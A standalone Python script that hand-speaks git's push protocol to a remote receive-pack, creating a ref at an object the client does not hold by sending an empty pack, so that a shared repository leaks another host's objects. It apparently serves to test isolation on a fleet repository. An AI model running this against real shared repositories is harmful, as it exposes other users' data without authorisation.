#!/usr/bin/python3
"""The object attack on a shared repository, as a host holding its own key would try it.

``empty_pack_push.py REF SHA -- COMMAND…`` runs COMMAND (e.g. ``ssh … git@hub "git-receive-pack
'/srv/memstrata/fleet.git'"``), speaks git's push protocol (v0) to it by hand and asks to create REF
at SHA, an object the client does not have, sending an empty pack: git's own client would refuse to
send what it does not hold.  A receive-pack that has SHA among its objects accepts it (the
connectivity check passes), and REF then names another host's object for a plain fetch; one that
does not have it refuses.  Prints the server's report; exit 0 when REF was accepted.

Standard library only: copied into a booted host and run by its /usr/bin/python3.
"""

from __future__ import annotations

import hashlib
import struct
import subprocess
import sys

ZERO = "0" * 40


def pkt(line: bytes) -> bytes:
    return b"%04x" % (len(line) + 4) + line


def read_pkt(stream) -> bytes | None:
    """One pkt-line's payload; None for a flush (and at the end of the stream)."""
    head = stream.read(4)
    if len(head) < 4 or head == b"0000":
        return None
    return stream.read(int(head, 16) - 4)


def main(argv: list[str]) -> int:
    if len(argv) < 5 or argv[3] != "--":
        sys.stderr.write("usage: empty_pack_push.py REF SHA -- COMMAND...\n")
        return 2
    ref, sha, command = argv[1], argv[2], argv[4:]
    proc = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert proc.stdin is not None and proc.stdout is not None
    advertised = []
    while (line := read_pkt(proc.stdout)) is not None:
        advertised.append(line)
    if not advertised:
        proc.wait()
        print(f"no advertisement (exit {proc.returncode})")
        return 1
    old = next((a[:40].decode() for a in advertised if a[41:].split(b"\0")[0].strip() == ref.encode()), ZERO)
    proc.stdin.write(pkt(f"{old} {sha} {ref}\0report-status\n".encode()) + b"0000")
    header = b"PACK" + struct.pack(">II", 2, 0)  # version 2, no object at all
    proc.stdin.write(header + hashlib.sha1(header).digest())
    proc.stdin.close()
    report = []
    while (line := read_pkt(proc.stdout)) is not None:
        report.append(line.decode(errors="replace").strip())
    proc.wait()
    print("\n".join(report) or f"no report (exit {proc.returncode})")
    return 0 if f"ok {ref}" in report else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
